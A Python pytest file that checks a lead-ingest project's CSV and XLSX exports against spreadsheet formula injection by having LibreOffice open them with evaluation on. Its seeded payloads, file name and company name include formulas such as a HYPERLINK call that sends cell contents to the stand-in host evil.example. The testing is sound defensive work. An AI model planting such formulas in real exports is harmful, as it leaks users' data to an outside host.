"""Every export kind, as CSV and XLSX, opened by a real spreadsheet: no cell evaluates.

LibreOffice (Debian ``libreoffice-calc-nogui``) imports each file with formula evaluation
on, recalculates, and saves flat ODF, where a cell that became a formula carries a
``table:formula`` attribute.
"""

from __future__ import annotations

import re
import shutil
import subprocess
from pathlib import Path

import pytest
from sqlalchemy import update

from connectors.database.engine import session_scope
from connectors.database.ingest_models import Company, Contact
from flows.ingest import ingest_exhibition_leads as ingest_flow
from flows.ingest import sample_exports
from tasks.common.exports import KINDS, write_export
from tests.conftest import missing_peer
from tests.flow_runs import run_to_end

pytestmark = pytest.mark.usefixtures("prefect_harness")
ingest = run_to_end(ingest_flow)

HYPERLINK = 'HYPERLINK("http://evil.example/?"&A1,"x")'
PAYLOADS = {
    "first_name": "=1+1",
    "last_name": f"-1+{HYPERLINK}",
    "job_title": f"+1+{HYPERLINK}",
    "city": "@A1",
    "notes": "\t=2+2",
    "state": "\r=3+3",
}
# Flat ODF marks an evaluated cell with table:formula; a CSV import with evaluation on
# turns any "=..." text it takes for a formula into one.
_FORMULA_CELL = re.compile(r'table:formula="([^"]*)"')
# Field separator, quote, UTF-8, first line, column types, language, quoted as text off,
# detect special numbers, (export-only x3), evaluate formulas on.
_CSV_IMPORT = "CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true"


def _soffice() -> str:
    found = shutil.which("soffice")
    if found is None:
        missing_peer("LibreOffice (soffice, Debian libreoffice-calc-nogui)")
    return str(found)


def _formulas_after_opening(files: list[Path], tmp: Path, infilter: str | None) -> list[str]:
    out = tmp / "fods"
    command = [
        _soffice(),
        f"-env:UserInstallation=file://{tmp / 'lo-profile'}",
        "--headless",
        "--norestore",
        *([f"--infilter={infilter}"] if infilter else []),
        "--convert-to",
        "fods",
        "--outdir",
        str(out),
        *map(str, files),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=180)
    found: list[str] = []
    for file in files:
        converted = out / f"{file.stem}.fods"
        assert converted.exists(), f"LibreOffice did not open {file.name}"
        found += [f"{file.name}: {f}" for f in _FORMULA_CELL.findall(converted.read_text())]
    return found


def test_no_exported_cell_evaluates_in_libreoffice(database: str, tmp_path: Path) -> None:
    nasty_file = tmp_path / "@A1.csv"  # a file name reaches the rows export as text
    nasty_file.write_bytes(Path(sample_exports()[0]).read_bytes())
    ingest([str(nasty_file), *sample_exports()[1:]], event=f"-1+{HYPERLINK}")
    with session_scope() as s:
        s.execute(update(Contact).values(**PAYLOADS))
        s.execute(update(Company).values(name='=HYPERLINK("http://evil.example","x")'))

    csvs, books = [], []
    for kind in KINDS:
        csv_path, xlsx_path = tmp_path / f"{kind}.csv", tmp_path / f"{kind}.xlsx"
        write_export(kind, "csv", csv_path)
        write_export(kind, "xlsx", xlsx_path)
        csvs.append(csv_path)
        books.append(xlsx_path)
    contacts = (tmp_path / "contacts.csv").read_text(encoding="utf-8")
    assert "'=1+1" in contacts and f"'-1+{HYPERLINK}".replace('"', '""') in contacts

    assert _formulas_after_opening(csvs, tmp_path, _CSV_IMPORT) == []
    assert _formulas_after_opening(books, tmp_path, None) == []


def test_the_check_itself_sees_a_formula_cell(tmp_path: Path) -> None:
    """The detector is not blind: an unneutralised "=1+1" does evaluate."""
    raw = tmp_path / "raw.csv"
    raw.write_text("a\n=1+1\n", encoding="utf-8")
    assert _formulas_after_opening([raw], tmp_path, _CSV_IMPORT) == ["raw.csv: of:=1+1"]
